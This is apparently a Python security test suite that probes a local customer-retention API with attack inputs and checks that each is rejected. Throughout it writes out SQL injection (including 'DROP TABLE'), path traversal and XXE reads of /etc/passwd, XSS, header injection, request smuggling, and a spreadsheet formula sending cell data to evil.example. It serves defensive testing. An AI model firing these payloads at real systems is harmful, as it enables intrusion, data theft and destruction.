"""The attacks, one line each: what is sent, and what the right answer is."""

from __future__ import annotations

import csv
import io
import json
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote

from attacks_wire import Answer, ask, raw

from serving.locks.keys import Keys

HOSTILE = '=HYPERLINK("http://evil.example/"&A1,"C")<script>alert(\'x\')</script>'
EVIL = "https://evil.example"
JSON = {"Content-Type": "application/json"}
MB = 2**20
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE scores;--",
    '" UNION SELECT hash FROM api_keys--',
    "\\'; --",
    "%27%20OR%201=1",
)
CLIMBS = (
    "/docs-assets/../../../../../../etc/passwd",
    "/docs-assets/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/docs-assets/..%2f..%2f..%2f..%2f..%2fetc/passwd",
    "/docs-assets//etc/passwd",
    "/docs-assets/%00/etc/passwd",
    "/pages/assets/..%2f..%2f..%2f..%2fetc/passwd",
    "/pages/assets/%2e%2e/%2e%2e/pages.py",
    "/explain/../../etc/passwd",
    "/explain/..%2f..%2fstore.db",
)
Row = tuple[str, str, bool]
Right = Callable[[Answer], bool]


@dataclass(frozen=True)
class Target:
    """`keys`: role → key."""

    port: int
    keys: dict[str, str]

    def get(self, path: str | bytes, role: str = "admin", **headers: str) -> Answer:
        return ask(self.port, "GET", path, self.bearing(role) | headers)

    def post(self, path: str, body: bytes, role: str = "admin", **headers: str) -> Answer:
        return ask(self.port, "POST", path, self.bearing(role) | JSON | headers, body)

    def bearing(self, role: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.keys[role]}"} if role in self.keys else {}


def refused(answer: Answer) -> bool:
    return answer.is_refusal


def is_(*statuses: int) -> Right:
    return lambda answer: answer.status in statuses and "Traceback" not in answer.says


def row(name: str, answer: Answer, right: Right = refused) -> Row:
    return name, str(answer), right(answer)


def before_keys(target: Target) -> list[Row]:
    return [
        row("this machine itself", target.get("/at-risk"), is_(200)),
        row(
            "another site's name that leads here (DNS rebinding)", target.get("/at-risk", Host="evil.example")
        ),
        row("such a name on a page", target.get("/pages/at-risk", Host="evil.example"), is_(401)),
        row("another machine behind a proxy", target.get("/at-risk", **{"X-Forwarded-For": "203.0.113.9"})),
        row(
            "a form of another site (text/plain, no preflight)",
            target.post("/score", b'{"customer_ids": ["C1"]}', **{"Content-Type": "text/plain"}),
            is_(415),
        ),
        row(
            "a preflight of another site",
            ask(target.port, "OPTIONS", "/score", {"Origin": "https://evil.example"}),
            lambda answer: "access-control-allow-origin" not in answer.headers,
        ),
    ]


def with_keys(target: Target, keys: Keys) -> list[Row]:
    return [
        *sql(target),
        *paths(target),
        *bodies(target),
        *numbers(target),
        *lists(target),
        *campaigns(target),
        *doors(target, keys),
        *headers(target),
        *crowds(target),
    ]


def sql(target: Target) -> Iterator[Row]:
    for text in SQL:
        yield row(f"SQL in a filter: {text}", target.get(f"/at-risk?segment={quote(text)}"))
        yield row(f"SQL in an id: {text}", target.get(f"/explain/{quote(text)}"))
        body = json.dumps({"customer_ids": [text]}).encode()
        yield row(f"SQL in a list of ids: {text}", target.post("/score", body))
        yield row(f"SQL in a key: {text}", ask(target.port, "GET", "/at-risk", {"X-Api-Key": text}), is_(401))


def paths(target: Target) -> Iterator[Row]:
    for path in CLIMBS:
        answer = target.get(path)
        yield row(
            f"a path that climbs: {path}",
            answer,
            lambda found: found.status == 404 and "root:" not in found.says,
        )
    yield row("a path that isn't UTF-8", target.get(b"/explain/%ff%fe"))
    yield row("raw bytes in a path", target.get(b"/explain/\xff\x00"), is_(400, 404))
    yield row("a path of 60,000 characters", target.get("/explain/" + "x" * 60_000), is_(414))
    yield row(
        "a script in a path", target.get("/pages/customers/%3Cscript%3Ealert(1)%3C/script%3E"), unscripted
    )


def unscripted(answer: Answer) -> bool:
    return answer.status in (401, 404) and "<script>alert" not in answer.says


def bodies(target: Target) -> Iterator[Row]:
    yield row("a body of 40 MB", target.post("/score", b" " * (40 * MB)), is_(413))
    chunk = f"{MB:x}\r\n".encode() + b" " * MB + b"\r\n"
    unsaid = {"Transfer-Encoding": "chunked"}
    yield row("40 MB that don't say so", target.post("/score", chunk * 40 + b"0\r\n\r\n", **unsaid), is_(413))
    yield row(
        "a body said to be 10^30 bytes",
        target.post("/score", b"", **{"Content-Length": "1" + "0" * 30}),
        is_(400, 413),
    )
    yield row("three million values", target.post("/score", b"[" + b"1," * 3_000_000 + b"1]"), is_(413))
    yield row("lists in lists, 100,000 deep", target.post("/score", b"[" * 100_000))
    yield row("objects in objects, 100,000 deep", target.post("/score", b'{"a":' * 100_000))
    yield row("a body that isn't UTF-8", target.post("/score", b'{"customer_ids": ["\xff\xfe"]}'))
    yield row("half a character", target.post("/score", b'{"customer_ids": ["\\ud800"]}'))
    yield row("the same name twice", target.post("/score", b'{"customer_ids": ["a"], "customer_ids": ["b"]}'))
    yield row("a packed body", target.post("/score", b"\x1f\x8b", **{"Content-Encoding": "gzip"}))
    for kind in ("text/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded"):
        yield row(f"a body of {kind}", target.post("/score", b"x", **{"Content-Type": kind}), is_(415))
    xml = b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'
    yield row("an entity that reads a file", target.post("/score", xml))


def numbers(target: Target) -> Iterator[Row]:
    for value in (b"NaN", b"Infinity", b"-Infinity", b"1e999", b"9" * 5000, b'"NaN"'):
        order = b'{"order_id": "1", "customer_id": "C", "ordered_at": "2025-05-01", "amount": ' + value + b"}"
        body = b'{"as_of": "2025-06-01", "tables": {"orders": [' + order + b"]}}"
        yield row(f"an amount of {value[:12].decode()}", target.post("/score-events", body))
    for value in ("nan", "inf", "-1", "1e400", "9" * 400, "0x10", "٣"):
        yield row(f"min_clv={value[:12]}", target.get(f"/at-risk?min_clv={quote(value)}"), is_(200, 422))
    for value in ("-1", "0", "1e9", "99999999999999999999"):
        yield row(f"top={value}", target.get(f"/at-risk?top={value}"))


def lists(target: Target) -> Iterator[Row]:
    whole = target.get("/at-risk?format=csv", "retention")
    yield row("the whole list, with a formula for an id, as CSV", whole, runs_nothing)
    cursor = json.loads(target.get("/at-risk?top=2", "retention").body)["next_cursor"]
    yield row("another role's cursor", target.get(f"/at-risk?cursor={cursor}", "data-science"), is_(403))
    yield row("a cursor without a key", target.get(f"/at-risk?cursor={cursor}", ""), is_(401))
    for forged in ("99-1", "1-99999999999", "-1-1", "1-1;--", "1", "1-1-1", "%00", "01-01"):
        yield row(f"a forged cursor: {forged}", target.get(f"/at-risk?cursor={quote(forged)}", "retention"))


def campaigns(target: Target) -> Iterator[Row]:
    """Plans are kept, so what goes wrong must go wrong before one is."""
    for budget in (b"NaN", b"-1", b"1e999", b'"2000; DROP TABLE plans"', b"[[]]", b"null"):
        body = b'{"name": "spring", "keep": true, "budget": ' + budget + b"}"
        yield row(f"a budget of {budget[:12].decode()}", target.post("/winback/plans", body, "marketing"))
    long = json.dumps({"budget": 1, "keep": True, "name": "x" * 100_000}).encode()
    yield row("a campaign's name of 100,000 characters", target.post("/winback/plans", long, "marketing"))
    for plan in ("0", "-1", "9" * 30, "1;--", "1%20OR%201=1", "..%2f..%2fscores", "%00", "1e0", "٣"):
        path = f"/winback/plans/{quote(plan, safe='%')}"
        yield row(f"a plan {plan}", target.get(path, "marketing"))
        yield row(f"a plan {plan} approved", target.post(f"{path}/approve", b"", "marketing"))
    for query in ("offset=-1", "offset=1e99", "format=exe", "limit=99999999999", "offset=1;--"):
        yield row(f"rows with {query}", target.get(f"/winback/plans/1/rows?{query}", "marketing"))
    for role, act in (
        ("retention", "approve"),
        ("data-science", "approve"),
        ("retention", "export"),
        ("data-science", "resend"),
        ("", "export"),
    ):
        answer = target.post(f"/winback/plans/1/{act}", b"{}", role)
        yield row(f"{role or 'nobody'} asks to {act}", answer, is_(403 if role else 401))
    yield row(
        "data science asks whom a plan names", target.get("/winback/plans/1/rows", "data-science"), is_(403)
    )
    yield from forms(target)


def forms(target: Target) -> Iterator[Row]:
    """What a browser of somebody signed in may be led to send."""
    own = {"Origin": "http://localhost", "Content-Type": "application/x-www-form-urlencoded"}
    key = f"key={target.keys['marketing']}".encode()
    yield row("a sign-in sent by another site", target.post("/pages/sign-in", key, "", Origin=EVIL), is_(403))
    session = target.post("/pages/sign-in", key, "", **own).headers.get("set-cookie", "").partition(";")[0]
    signed = own | {"Cookie": session}
    for act in ("approve", "export", "resend"):
        path = f"/pages/campaigns/1/{act}"
        answer = target.post(path, b"", "", **signed | {"Origin": EVIL})
        yield row(f"{act}, sent by another site", answer, is_(403))
        answer = target.post(path, b"", "", **own | {"Cookie": session, "Sec-Fetch-Site": "cross-site"})
        yield row(f"{act}, led to by another site", answer, is_(403))
        yield row(f"{act} without a session", target.post(path, b"", "", **own), is_(401))
    planned = "/pages/campaigns"
    script = b"budget=%3Cscript%3Ealert(1)%3C/script%3E&name=%3Cscript%3Ealert(1)%3C/script%3E"
    yield row(
        "a form of markup",
        target.post(planned, script, "", **signed),
        lambda a: "<script>alert" not in a.says,
    )
    yield row("a form of 1 MB", target.post(planned, b"a=" + b"x" * MB, "", **signed), is_(413))
    yield row(
        "a form that isn't UTF-8", target.post(planned, b"budget=\xff%ff%00", "", **signed), is_(200, 422)
    )


def runs_nothing(answer: Answer) -> bool:
    cells = [cell for line in csv.reader(io.StringIO(answer.says)) for cell in line]
    plain = (cell for cell in cells if not _is_number(cell))
    return (
        answer.status == 200
        and f"'{HOSTILE}" in cells
        and not any(c[:1] in set("=+-@\t\r") for c in plain if c)
    )


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def doors(target: Target, keys: Keys) -> Iterator[Row]:
    key = target.keys["expiring"]
    yield row("a good key", target.get("/at-risk?top=1", "expiring"), is_(200))
    keys.revoke(key.split("_")[1])
    yield row("the same key, revoked meanwhile", target.get("/at-risk?top=1", "expiring"), is_(401))
    good = target.keys["admin"]
    flipped = good[:-2] + ("A" if good[-2] != "A" else "B") + good[-1]
    for name, wrong in (
        ("a key with one letter changed", flipped),
        ("a key in capitals", good.upper()),
        ("a key twice", good + good),
        (
            "another key's id before it",
            f"amity_{target.keys['retention'].split('_')[1]}_{good.split('_', 2)[2]}",
        ),
    ):
        yield row(name, ask(target.port, "GET", "/at-risk", {"X-Api-Key": wrong}), is_(401))
    yield row("the key in the address", target.get(f"/at-risk?key={good}", ""), is_(401))
    yield row("no key", target.get("/at-risk", ""), is_(401))
    yield row("no key, and this machine's name", target.get("/at-risk", "", Host="127.0.0.1"), is_(401))
    yield row("marketing asks for one customer's story", target.get("/explain/x", "marketing"), is_(403))
    yield row("data science asks for the list", target.get("/at-risk", "data-science"), is_(403))
    yield row("retention asks for the metrics", target.get("/metrics", "retention"), is_(403))
    yield row(
        "a forged session",
        target.get("/pages/at-risk", "", Cookie="amity=1.admin.x; session=x"),
        is_(200, 303, 401),
    )
    away = "/pages/sign-in?next=https%3A%2F%2Fevil.example"
    yield row(
        "a sign-in that leads away",
        target.get(away, ""),
        lambda found: 'href="https://evil' not in found.says,
    )


def headers(target: Target) -> Iterator[Row]:
    unbroken: Right = lambda found: "set-cookie" not in found.headers and "x: y" not in found.says  # noqa: E731
    yield row("a line break in a filter", target.get("/at-risk?segment=a%0d%0aSet-Cookie:%20x"), unbroken)
    yield row(
        "a line break in the day of a CSV",
        target.get("/at-risk?format=csv&as_of=2025-01-01%0d%0aSet-Cookie:x"),
        unbroken,
    )
    yield row("a line break in an id", target.get("/explain/a%0d%0aSet-Cookie:%20x=y"))
    forged = target.get("/health", **{"X-Request-Id": "a" * 30 + "\r\nSet-Cookie: x=y"})
    yield row("a line break in a header", forged, unbroken)
    yield row(
        "a request id of markup",
        target.get("/health", **{"X-Request-Id": "<script>" * 4}),
        lambda f: "<" not in f.headers["x-request-id"],
    )
    both = (
        b"POST /score HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    smuggled = raw(target.port, both, b"0\r\n\r\nGET /at-risk HTTP/1.1\r\nHost: localhost\r\n\r\n")
    yield row(
        "one request within another",
        smuggled,
        lambda found: found.status in (400, 401) and '"customers"' not in found.says,
    )
    yield row("no HTTP at all", raw(target.port, b"\x16\x03\x01\x00\x01\r\n\r\n"), is_(0, 400))
    yield row("a header of 100,000 characters", target.get("/health", **{"X-Long": "x" * 100_000}), is_(431))
    for method in ("TRACE", "CONNECT", "PUT", "DELETE", "PATCH", "BREW", "get"):
        answer = ask(target.port, method, "/at-risk", target.bearing("admin"))
        yield row(f"{method} /at-risk", answer, is_(0, 400, 405))


def crowds(target: Target) -> Iterator[Row]:
    away = {"X-Forwarded-For": "203.0.113.9", "X-Api-Key": "amity_000000000000_" + "A" * 43}
    told = [ask(target.port, "GET", "/health", away) for _ in range(30)]
    waits = told[-1].headers.get("retry-after", "")
    yield (
        "30 wrong keys from one address",
        f"{told[0].status} … {told[-1].status}, Retry-After {waits}",
        (told[0].status == 401 and told[-1].status == 429 and waits.isdigit()),
    )
    stuck: list[Answer] = []
    head = b"POST /score HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n"
    key = f"X-Api-Key: {target.keys['admin']}\r\nConnection: close\r\n\r\n".encode()
    thread = threading.Thread(target=lambda: stuck.append(raw(target.port, head + key, b"{")))
    thread.start()
    time.sleep(0.5)
    yield row("others while a body never comes", target.get("/health"), is_(200))
    thread.join()
    yield row("a body that never comes", stuck[0], is_(504))
